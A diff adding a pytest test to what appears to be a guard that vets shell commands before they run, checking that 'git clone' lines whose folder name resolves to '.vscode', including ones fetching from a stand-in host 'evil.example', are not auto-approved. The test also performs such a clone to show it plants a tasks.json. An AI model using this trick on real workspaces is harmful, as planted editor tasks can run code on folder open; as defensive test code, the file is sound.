@@ -164,6 +164,32 @@ def test_fe2_submodule_add_named_by_git_url_basename_asks(tmp_path: Path, line: 
     assert _tasks_written(workspace)
 
 
+@pytest.mark.parametrize(
+    "line",
+    ["git clone ../.vscode/.git", "git clone --depth 1 git@evil.example:.vscode",
+     "git clone https://evil.example/x/.vscode/"],
+)  # fmt: skip
+def test_fe2_clone_without_a_folder_named_by_git_url_basename_asks(
+    tmp_path: Path, line: str
+) -> None:
+    # (beside the review: `git clone` guesses its folder as `git submodule add` does)
+    workspace = _repository(tmp_path)
+    approval = _approved("git clone https://example.com/lib.git", workspace, tmp_path)
+    assert _verdict(line, workspace, tmp_path, approval) is not Verdict.ALLOW
+    everyday = "git clone --depth 1 https://example.com/lib.git"
+    assert _verdict(everyday, workspace, tmp_path, approval) is Verdict.ALLOW
+    if not line.endswith("../.vscode/.git"):
+        return
+    source = tmp_path / ".vscode"
+    source.mkdir()
+    (source / "tasks.json").write_text(_TASKS)
+    _git(source, tmp_path, "init", "-q", ".")
+    _git(source, tmp_path, "add", "-A")
+    _git(source, tmp_path, "commit", "-qm", "t")
+    assert _run(line, workspace, tmp_path).returncode == 0
+    assert _tasks_written(workspace)
+
+
 def test_fe3_worktree_remove_by_path_suffix_asks(tmp_path: Path) -> None:
     workspace = _repository(tmp_path)
     (workspace / ".git" / "info" / "exclude").write_text(".env.local\n")
